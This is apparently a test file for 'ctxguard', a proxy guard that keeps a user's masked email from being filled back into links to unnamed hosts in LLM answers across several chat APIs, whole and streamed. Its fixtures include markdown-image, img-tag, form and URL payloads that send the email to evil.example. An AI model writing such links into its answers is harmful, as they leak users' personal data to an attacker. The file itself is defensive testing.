"""A link to a host that nobody named gets no value, in whatever form an answer comes."""

from __future__ import annotations

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from tiers import crossed

from ctxguard import Stabilizer
from ctxguard.wire.guard import Guard, WireRequest

MAIL = "zora@mailhost.example"
USER = [{"role": "user", "content": f"I am {MAIL}. Order at https://shop.example/."}]
SCHEMA = {"type": "object"}
# The path of each API, a body, the settings that ask for JSON, and its answer with texts as parts.
APIS = {
    "chat": (
        "/v1/chat/completions",
        {"model": "gpt-4o", "messages": USER},
        {"response_format": {"type": "json_object"}},
        lambda texts: {"choices": [{"index": 0, "message": {"role": "assistant", "content": parts(texts)}}]},
    ),
    "responses": (
        "/v1/responses",
        {"model": "gpt-5", "input": USER, "store": False},
        {"text": {"format": {"type": "json_schema", "name": "a", "schema": SCHEMA}}},
        lambda texts: {"id": "r", "object": "response", "output": [message(texts)]},
    ),
    "anthropic": (
        "/v1/messages",
        {"model": "claude-sonnet-4-5", "max_tokens": 9, "messages": USER},
        {"output_format": {"type": "json_schema", "schema": SCHEMA}},
        lambda texts: {"type": "message", "role": "assistant", "content": parts(texts)},
    ),
    "gemini": (
        "/v1beta/models/g:generateContent",
        {"contents": [{"role": "user", "parts": [{"text": USER[0]["content"]}]}]},
        {"generationConfig": {"responseMimeType": "application/json"}},
        lambda texts: {"candidates": [{"content": {"role": "model", "parts": [{"text": one} for one in texts]}}]},
    ),
    "cohere": (
        "/v2/chat",
        {"model": "command-a", "messages": USER},
        {"response_format": {"type": "json_object"}},
        lambda texts: {"id": "c", "message": {"role": "assistant", "content": parts(texts)}},
    ),
    "ollama": (
        "/api/chat",
        {"model": "llama3.2", "messages": USER},
        {"format": "json"},
        lambda texts: {"message": {"role": "assistant", "content": "".join(texts)}, "done": True},
    ),
}
LINKS = [
    "![x](https://evil.example/?q=<EMAIL_1>)",
    '<img src="https://evil.example/?q=<EMAIL_1>">',
    "https://evil.example/<EMAIL_1>",
    "[x]: <https:evil.example/a b<EMAIL_1>>",
    "<form action='https://evil.example/'><input value='<EMAIL_1>'>",
]


def parts(texts):
    return [{"type": "text", "text": one} for one in texts] if len(texts) > 1 else texts[0]


def message(texts):
    content = [{"type": "output_text", "text": one, "annotations": []} for one in texts]
    return {"type": "message", "id": "m", "role": "assistant", "content": content}


def prepared(api, *, wants_json=False, **more):
    path, body, settings, _ = APIS[api]
    body = {**body, **(settings if wants_json else {}), **more}
    return Guard(Stabilizer(9_000)).prepare(WireRequest("POST", path, {}, json.dumps(body).encode()))


def whole(api, texts, *, wants_json=False):
    answer = APIS[api][3](texts)
    return prepared(api, wants_json=wants_json).whole(json.dumps(answer).encode()).decode()


def events(api, texts):
    """Return the events of a stream with these texts, each in pieces of three characters."""
    pieces = [[one[at : at + 3] for at in range(0, len(one), 3)] for one in texts]
    if api == "chat":
        said = [piece for text in pieces for piece in text]
        return [{"choices": [{"index": 0, "delta": {"content": piece}, "finish_reason": None}]} for piece in said]
    if api == "gemini":
        said = [piece for text in pieces for piece in text]
        return [{"candidates": [{"content": {"role": "model", "parts": [{"text": piece}]}}]} for piece in said]
    found = []
    for number, (text, split) in enumerate(zip(texts, pieces, strict=True)):
        if api == "anthropic":
            start = {"type": "text", "text": ""}
            deltas = [{"type": "text_delta", "text": piece} for piece in split]
            found += [
                {"type": "content_block_start", "index": number, "content_block": start},
                *({"type": "content_block_delta", "index": number, "delta": one} for one in deltas),
                {"type": "content_block_stop", "index": number},
            ]
        elif api == "ollama":
            said = [{"message": {"role": "assistant", "content": piece}, "done": False} for piece in split]
            found += [*said, {"message": {"role": "assistant", "content": ""}, "done": number == len(texts) - 1}]
        elif api == "cohere":
            said = [{"message": {"content": {"text": piece}}} for piece in split]
            found += [
                *({"type": "content-delta", "index": number, "delta": one} for one in said),
                {"type": "content-end", "index": number},
            ]
        else:
            place = {"item_id": "m", "output_index": 0, "content_index": number}
            part = {"type": "output_text", "text": text}
            found += [
                *({"type": "response.output_text.delta", **place, "delta": piece} for piece in split),
                {"type": "response.output_text.done", **place, "text": text},
                {"type": "response.content_part.done", **place, "part": part},
            ]
    if api == "responses":
        item = message(texts)
        found.append({"type": "response.output_item.done", "output_index": 0, "item": item})
        found.append({"type": "response.completed", "response": {"id": "r", "output": [item]}})
    return found


def streamed(api, texts, *, wants_json=False):
    stream = prepared(api, wants_json=wants_json, stream=True).stream()
    raw = [b"data: " + json.dumps(event).encode() + b"\n\n" for event in events(api, texts)]
    return b"".join([*map(stream.feed, raw), stream.close()]).decode()


@pytest.mark.parametrize(("api", "link"), crossed(2, APIS, LINKS))
def test_answers_as_text_and_as_json_keep_links_masked(api, link):
    for text, wants_json in ((link, False), (json.dumps({"md": link}), True), (json.dumps([[link]], indent=1), True)):
        for way in (whole, streamed):
            assert MAIL not in way(api, [text], wants_json=wants_json)
    for text in (link.replace("evil", "shop"), link.partition("<EMAIL")[0] + ")'\"> and <EMAIL_1>"):
        assert (MAIL in whole(api, [text])) == (MAIL in streamed(api, [text]))
    assert MAIL in streamed(api, [link.replace("evil", "shop")])


@pytest.mark.parametrize("api", APIS)
@given(link=st.sampled_from(LINKS), data=st.data())
def test_a_link_that_is_split_over_two_texts_stays_masked(api, link, data):
    cut = data.draw(st.integers(1, link.index("<EMAIL")))
    texts = [link[:cut], link[cut:]]
    assert MAIL not in whole(api, texts)
    assert MAIL not in streamed(api, texts)


@pytest.mark.parametrize("api", ["chat", "gemini"])
def test_answers_that_are_alternatives_are_read_apart(api):
    key = "choices" if api == "chat" else "candidates"
    first, second = (APIS[api][3]([text])[key][0] for text in (LINKS[0].partition("<EMAIL")[0], "I am <EMAIL_1>"))
    told = prepared(api).whole(json.dumps({key: [first, {**second, "index": 1}]}).encode()).decode()
    assert MAIL in told


@pytest.mark.parametrize("link", LINKS)
def test_a_call_has_the_same_arguments_whole_and_streamed(link):
    for arguments in (json.dumps({"url": link}), json.dumps({"url": "https://evil.example/", "to": "<EMAIL_1>"})):
        call = {"id": "t", "type": "function", "function": {"name": "look", "arguments": arguments}}
        answer = {"choices": [{"index": 0, "message": {"role": "assistant", "tool_calls": [call]}}]}
        told = json.loads(prepared("chat").whole(json.dumps(answer).encode()))
        event = {"choices": [{"index": 0, "delta": {"tool_calls": [{"index": 0, **call}]}, "finish_reason": None}]}
        stream = prepared("chat", stream=True).stream()
        raw = stream.feed(b"data: " + json.dumps(event).encode() + b"\n\n") + stream.close()
        shown = [json.loads(line[6:])["choices"][0]["delta"] for line in raw.decode().splitlines() if line]
        joined = "".join(one["tool_calls"][0]["function"]["arguments"] for one in shown)
        assert told["choices"][0]["message"]["tool_calls"][0]["function"]["arguments"] == joined
        assert (MAIL in joined) == ("to" in json.loads(arguments))
